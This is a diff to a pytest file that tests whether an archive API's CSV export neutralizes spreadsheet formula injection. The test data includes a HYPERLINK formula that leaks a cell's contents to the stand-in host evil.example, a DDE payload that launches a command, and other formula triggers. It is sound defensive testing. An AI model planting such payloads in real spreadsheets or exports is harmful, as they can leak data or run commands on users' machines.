@@ -9,10 +9,14 @@ import xml.etree.ElementTree as ET
 from collections.abc import Iterator
 
 import pytest
-from conftest import SAMPLE_RECORDS, sample_home
+from conftest import SAMPLE_RECORDS, make_record, sample_home
 from starlette.testclient import TestClient
 
 from api.app import create_app
+from api.routes.exports import csv_cell
+from archive.home import DataHome
+from archive.store import RecordStore
+from index.store import IndexWriter
 
 ATOM = "{http://www.w3.org/2005/Atom}"
 
@@ -58,6 +62,68 @@ def test_export_jsonl_and_csv(client: TestClient) -> None:
     assert [row["id"] for row in rows] == [SAMPLE_RECORDS[i].id for i in (0, 2, 1)]
     assert rows[0]["author"] == "Hoàng Văn Đồng"
     assert rows[0]["permalink"].endswith(f"/api/v1/records/{SAMPLE_RECORDS[0].id}")
+
+
+HOSTILE = make_record(
+    90,
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")',
+    ["+cmd|' /C calc'!A0", "second paragraph"],
+    lead="-2+3",
+    author="@SUM(1+1)",
+    category="\tthẻ",
+    department="＝1+1",
+    jurisdiction='Tỉnh "A";=1+2',
+)
+
+
+def test_csv_cells_that_a_spreadsheet_would_run_are_neutralized(
+    tmp_path_factory: pytest.TempPathFactory,
+) -> None:
+    home = DataHome(tmp_path_factory.mktemp("hostile")).ensure()
+    store = RecordStore(home.records_dir)
+    store.put(HOSTILE)
+    IndexWriter(home.index_dir).rebuild(store)
+    with TestClient(create_app(home)) as client:
+        exported = client.get("/api/v1/export", params={"format": "csv"})
+        jsonl = client.get("/api/v1/export", params={"format": "jsonl"})
+    assert exported.status_code == 200
+    # Every cell is quoted, so no separator or quote inside a value can start a new cell.
+    assert exported.text.startswith('"id","url","title"')
+    assert '"\'=HYPERLINK(""http://evil.example/?leak=""&A1,""Bấm vào đây"")"' in exported.text
+    (row,) = csv.DictReader(io.StringIO(exported.text))
+    assert row["title"] == "'" + HOSTILE.title
+    assert row["text"] == "'+cmd|' /C calc'!A0\n\nsecond paragraph"
+    assert row["lead"] == "'-2+3"
+    assert row["author"] == "'@SUM(1+1)"
+    assert row["category"] == "'\tthẻ"
+    assert row["department"] == "'＝1+1"
+    assert row["jurisdiction"] == 'Tỉnh "A";=1+2'  # starts harmlessly, and stays one quoted cell
+    assert row["id"] == HOSTILE.id
+    # JSON Lines are data for programs: raw.
+    assert json.loads(jsonl.text)["title"] == HOSTILE.title
+
+
+@pytest.mark.parametrize(
+    ("value", "cell"),
+    [
+        ("=1+2", "'=1+2"),
+        ("+1", "'+1"),
+        ("-5", "'-5"),
+        ("@x", "'@x"),
+        ("\t=1", "'\t=1"),
+        ("\r=1", "'\r=1"),
+        ("\n=1", "'\n=1"),
+        ("＠x", "'＠x"),
+        ("－1", "'－1"),
+        ("＋1", "'＋1"),
+        ("", ""),
+        ("Hội nghị = 1", "Hội nghị = 1"),
+        ("'=1", "'=1"),  # already text to a spreadsheet
+        ("http://demo.vn/tin-tuc/1", "http://demo.vn/tin-tuc/1"),
+    ],
+)
+def test_csv_cell(value: str, cell: str) -> None:
+    assert csv_cell(value) == cell
 
 
 def test_export_errors_come_before_the_body(client: TestClient) -> None:
